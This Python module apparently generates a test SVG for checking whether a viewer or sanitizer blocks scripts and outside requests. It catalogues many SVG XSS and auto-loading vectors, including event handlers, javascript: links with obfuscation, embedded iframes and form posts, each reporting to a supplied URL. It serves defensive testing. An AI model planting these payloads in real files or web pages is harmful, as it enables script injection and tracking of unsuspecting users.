"""An SVG that tries to run scripts and to load resources when it is opened."""

from collections.abc import Mapping
from typing import Final

# `{do}` is a script that reports the attempt, and fits into an attribute in double quotes; `{url}` is where to.
RUNS: Final[Mapping[str, str]] = {
    "script": "<script>{do}</script>",
    "script-with-a-type": '<script type="application/ecmascript"><![CDATA[{do}]]></script>',
    "script-of-html": "<html:script>{do}</html:script>",
    "script-in-data": '<script href="data:text/javascript,{do}"/>',
    "script-in-old-data": '<script xlink:href="data:text/javascript,{do}"/>',
    "script-in-a-group": "<g><defs><script>{do}</script></defs></g>",
    "onload-of-an-image": '<image href="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload="{do}"/>',
    "onerror-of-an-image": '<image href="data:," onerror="{do}"/>',
    "onbegin-of-an-animation": '<rect><animate attributeName="x" dur="1s" onbegin="{do}"/></rect>',
    "onbegin-of-a-set": '<rect><set attributeName="x" to="1" onbegin="{do}"/></rect>',
    "onend-of-an-animation": '<rect><animate attributeName="x" dur="0.01s" onend="{do}"/></rect>',
    "onfocus": '<g tabindex="1" autofocus="" onfocus="{do}"><rect width="1" height="1"/></g>',
    "onerror-in-html": '<foreignObject {size}><html:img src="data:," onerror="{do}"/></foreignObject>',
    "ontoggle-in-html": '<foreignObject {size}><html:details open="" ontoggle="{do}"/></foreignObject>',
    "frame-of-javascript": '<foreignObject {size}><html:iframe src="javascript:{do_above}"/></foreignObject>',
    "frame-with-srcdoc": (
        '<foreignObject {size}><html:iframe srcdoc="&lt;script>{do_above}&lt;/script>"/></foreignObject>'
    ),
}
"""The ways to run a script as soon as the document is open."""

LOADS: Final[Mapping[str, str]] = {
    "fetch": "<script>fetch('{url}/fetch', {{mode: 'no-cors'}})</script>",
    "xhr": "<script>var x = new XMLHttpRequest(); x.open('GET', '{url}/xhr'); x.send()</script>",
    "beacon": "<script>navigator.sendBeacon('{url}/beacon')</script>",
    "dynamic-import": "<script>import('{url}/dynamic-import').catch(() => 0)</script>",
    "external-script": '<script href="{url}/external-script"/>',
    "old-external-script": '<script xlink:href="{url}/old-external-script"/>',
    "external-script-of-html": '<html:script src="{url}/external-script-of-html"/>',
    "image": '<image href="{url}/image" width="9" height="9"/>',
    "old-image": '<image xlink:href="{url}/old-image" width="9" height="9"/>',
    "use": '<use href="{url}/use#a"/>',
    "paint": '<rect width="9" height="9" fill="url({url}/paint#a)"/>',
    "filter-image": (
        '<filter id="f"><feImage href="{url}/filter-image"/></filter><rect width="9" height="9" filter="url(#f)"/>'
    ),
    "style-import": "<style>@import '{url}/style-import';</style>",
    "style-in-data": "<style>@import 'data:text/css,@import url({url}/style-in-data)';</style>",
    "font": (
        '<style>@font-face {{ font-family: f; src: url({url}/font) }}</style><text y="9" font-family="f">text</text>'
    ),
    "background-in-html": (
        '<foreignObject {size}><html:p style="background: url({url}/background-in-html)">text</html:p></foreignObject>'
    ),
    "image-in-html": '<foreignObject {size}><html:img src="{url}/image-in-html"/></foreignObject>',
    "frame": '<foreignObject {size}><html:iframe src="{url}/frame"/></foreignObject>',
    "refresh-in-a-frame": (
        '<foreignObject {size}><html:iframe srcdoc="'
        '&lt;meta http-equiv=refresh content=0;url={url}/refresh-in-a-frame>"/></foreignObject>'
    ),
    "object": '<foreignObject {size}><html:object data="{url}/object"/></foreignObject>',
    "embed": '<foreignObject {size}><html:embed src="{url}/embed"/></foreignObject>',
    "video": '<foreignObject {size}><html:video src="{url}/video" autoplay="" muted=""/></foreignObject>',
    "stylesheet-in-html": '<html:link rel="stylesheet" href="{url}/stylesheet-in-html"/>',
    "preload-in-html": '<html:link rel="preload" as="image" href="{url}/preload-in-html"/>',
    "form": (
        '<foreignObject {size}><html:iframe name="n"/>'
        '<html:form id="form" target="n" method="post" action="{url}/form"/></foreignObject>'
        "<script>document.getElementById('form').submit()</script>"
    ),
}
"""The ways to fetch something as soon as the document is open."""

CLICKS: Final[Mapping[str, str]] = {
    "onclick": '<rect id="onclick" width="9" height="9" onclick="{do}"/>',
    "link": '<a id="link" href="javascript:{do}"><rect width="9" height="9"/></a>',
    "old-link": '<a id="old-link" xlink:href="javascript:{do}"><rect width="9" height="9"/></a>',
    "hidden-link": '<a id="hidden-link" href="&#106;ava&#10;script:{do}"><rect width="9" height="9"/></a>',
    "link-in-html": (
        '<foreignObject {size}><html:a id="link-in-html" href="javascript:{do}">text</html:a></foreignObject>'
    ),
}
"""The ways to run a script at a click on the element whose id is the name."""

LEAVES: Final = "refresh"
"""The path to which the document is left, if it is made for that."""

ATTEMPTS: Final = frozenset({*RUNS, *LOADS, *CLICKS, "onload", "stylesheet"})

# Chromium lets none of these come off; they are here for browsers that do.
_FUTILE: Final[Mapping[str, str]] = {
    "script-in-a-module": '<script type="module">{do}</script>',
    "onload-of-a-style": '<style onload="{do}">a {{ }}</style>',
    "use-of-data": '<use href="data:image/svg+xml,%3Csvg/%3E#a"/>',
    "animated-link": (
        '<a id="animated-link"><animate attributeName="href" values="javascript:{do}" fill="freeze"/>'
        '<rect width="9" height="9"/></a>'
    ),
    "set-link": '<a id="set-link"><set attributeName="href" to="javascript:{do}"/><rect width="9" height="9"/></a>',
    "animated-onload": '<g><set attributeName="onmouseover" to="{do}"/></g>',
    "handler": '<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">{do}</handler>',
}


def hostile_svg(url: str, *, leaves: bool = False) -> bytes:
    """Return a well-formed SVG of 320 by 200 pixels whose attempts report to `url`, which has no slash at its end.

    With `leaves` it sends the browser to `LEAVES` a second after it was opened.
    """
    parts = [
        '<?xml version="1.0" encoding="utf-8"?>',
        f'<?xml-stylesheet href="{url}/stylesheet"?>',
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"',
        ' xmlns:html="http://www.w3.org/1999/xhtml"',
        f' width="320" height="200" onload="{_report(url, "onload")}">',
        "<title>hostile</title>",
    ]
    for name, attempt in {**RUNS, **LOADS, **CLICKS, **_FUTILE}.items():
        do = _report(url, name)
        above = do.replace("document", "parent.document")
        parts.append(attempt.format(url=url, do=do, do_above=above, size='width="90" height="90"'))
    if leaves:
        parts.append(f'<html:meta http-equiv="refresh" content="1;url={url}/{LEAVES}"/>')
    parts.append("</svg>")
    return "\n".join(parts).encode()


def _report(url: str, name: str) -> str:
    return f"document.title+=' {name}';new Image().src='{url}/{name}';void 0"
